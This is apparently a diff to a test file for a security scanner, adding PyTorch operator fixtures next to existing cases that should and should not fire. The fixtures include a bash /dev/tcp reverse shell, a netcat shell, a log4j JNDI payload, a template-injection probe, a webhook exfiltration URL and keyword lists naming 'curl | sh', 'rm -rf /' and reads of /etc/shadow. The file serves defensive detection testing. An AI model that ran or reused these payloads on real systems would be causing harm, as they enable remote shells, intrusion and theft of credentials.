@@ -84,6 +84,8 @@ FIRING: dict[str, tuple[str, str]] = {
     "reverse shell in prose": ("warning command", '{"notes": "bash -i >& /dev/tcp/203.0.113.9/1 0>&1"}'),
     "talk of a reverse shell": ("info command", "blocked_words:\n- nc -e /bin/sh\n- keyword: bash -i >& /dev/tcp\n"),
     "reverse shell under passwords": ("critical command", "passwords:\n- nc -e /bin/sh\nn: 1\n"),
+    "operator of somebody": ("warning target", '{"target": "torch.ops.mylib.run.default", "n": 1}'),
+    "operator that maps a file": ("warning target", '{"target": "torch.ops.aten.from_file.default", "n": 1}'),
     "template": ("critical template", '{"prefix": "{{ x.__class__.__mro__ }}"}'),
     "log4j": ("critical template", '{"name": "${jndi:ldap://203.0.113.9/a}"}'),
     "collector": ("warning collector", '{"callback": "https://webhook.site/0000"}'),
@@ -123,6 +125,10 @@ SILENT: dict[str, str] = {
     ),
     "words that texts are compared with": (
         "always_block_keywords:\n- keyword: curl | sh\n- keyword: rm -rf /\nterms:\n- cat /etc/shadow\n- eval(base64\n"
+    ),
+    "nodes of an exported program": (
+        '{"nodes": [{"target": "torch.ops.aten.linear.default", "inputs": [], "kwargs": {}},'
+        ' {"target": "_operator.add"}, {"target": "torch.ops.higher_order.cond"}, {"target": "torch.ops.aten.from_file_like.default"}]}'
     ),
     "token settings": '{"bos_token": "<s>", "pad_token": "[PAD]", "eos_token_id": 2, "image_token": "<|image_pad|>"}',
     "address without password": "url: https://example.com/a@b:c\nssh: git@github.com:a/b.git\n",
